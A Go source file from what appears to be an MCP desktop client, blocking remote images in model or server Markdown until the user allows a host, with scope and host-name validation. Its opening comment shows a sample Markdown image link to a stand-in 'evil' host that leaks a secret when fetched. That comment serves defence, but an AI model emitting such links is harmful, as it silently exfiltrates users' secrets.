// Package remotecontent keeps remote images out of the window until the
// user lets them in (issue 11, point 3). Markdown from a model or a server
// may point at any URL: `![](https://evil/?d=<secret>)` leaks the secret the
// moment a webview fetches it. So the window never fetches a remote image.
// It shows a placeholder naming the host; "Load images from HOST" allows
// that host for one conversation or one server (a Grant, kept in the
// settings table until revoked), and Images.Fetch then fetches the image
// here in Go — only from an allowed host, without cookies or credentials,
// size-capped and type-checked — and hands the window a data: URL.
package remotecontent

import (
	"errors"
	"fmt"
	"net"
	"strconv"
	"strings"
	"time"
)

// Scope kinds: remote images are allowed per conversation (chat) or per
// server (the Tools, Resources and Prompts screens, and tool icons).
const (
	KindConversation = "conversation"
	KindServer       = "server"
)

// Limits on what a grant may name.
const (
	maxHostLen  = 253 // a DNS name's longest form
	maxScopeID  = 256 // bytes of a server id
	maxGrants   = 1000
	grantsKey   = "remote.images"
	maxURLBytes = 16 * 1024
)

// Scope is where remote images were allowed: one conversation (ID is its
// decimal id) or one server (ID is its id in the MCP config).
type Scope struct {
	Kind string `json:"kind" ts_type:"'conversation' | 'server'"`
	ID   string `json:"id"`
}

// String names the scope for people and error messages.
func (s Scope) String() string {
	if s.Kind == KindConversation {
		return "conversation " + s.ID
	}
	return fmt.Sprintf("server %q", s.ID)
}

// Validate reports what is wrong with s: an unknown kind, a missing or
// malformed id.
func (s Scope) Validate() error {
	switch s.Kind {
	case KindConversation:
		if _, err := s.conversationID(); err != nil {
			return err
		}
	case KindServer:
		if s.ID == "" {
			return errors.New("scope: name the server")
		}
		if len(s.ID) > maxScopeID {
			return fmt.Errorf("scope: server id is %d bytes, more than the %d allowed", len(s.ID), maxScopeID)
		}
	default:
		return fmt.Errorf("scope: kind must be %q or %q, not %q", KindConversation, KindServer, s.Kind)
	}
	return nil
}

func (s Scope) conversationID() (int64, error) {
	id, err := strconv.ParseInt(s.ID, 10, 64)
	if err != nil || id <= 0 || strconv.FormatInt(id, 10) != s.ID {
		return 0, fmt.Errorf("scope: conversation id must be a positive number, not %q", s.ID)
	}
	return id, nil
}

// Grant is one host allowed in one scope.
type Grant struct {
	Scope Scope  `json:"scope"`
	Host  string `json:"host"`
	// Label names the scope for the Settings screen: the conversation's
	// title ("" when it has none) or the server's id.
	Label string `json:"label"`
	// GrantedAt is when the host was allowed.
	GrantedAt time.Time `json:"grantedAt" ts_type:"string"`
}

// NormalizeHost returns host as grants store it: lower case, without the
// brackets of an IPv6 literal or a trailing dot. A host that is empty, too
// long, not ASCII (the window sends IDN hosts in their punycode form, as
// its URL parser writes them) or holds characters no host name has is an
// error.
func NormalizeHost(host string) (string, error) {
	h := strings.ToLower(strings.TrimSpace(host))
	h = strings.TrimSuffix(strings.TrimPrefix(h, "["), "]")
	h = strings.TrimSuffix(h, ".")
	switch {
	case h == "":
		return "", errors.New("host: empty")
	case len(h) > maxHostLen:
		return "", fmt.Errorf("host: %d bytes, more than the %d a host name may have", len(h), maxHostLen)
	}
	if ip := net.ParseIP(h); ip != nil {
		return ip.String(), nil
	}
	for _, r := range h {
		switch {
		case r >= 'a' && r <= 'z', r >= '0' && r <= '9', r == '-', r == '.', r == '_':
		case r > 0x7f:
			return "", fmt.Errorf("host %q is not ASCII: give its punycode (xn--) form", host)
		default:
			return "", fmt.Errorf("host %q holds %q, which no host name has", host, r)
		}
	}
	return h, nil
}
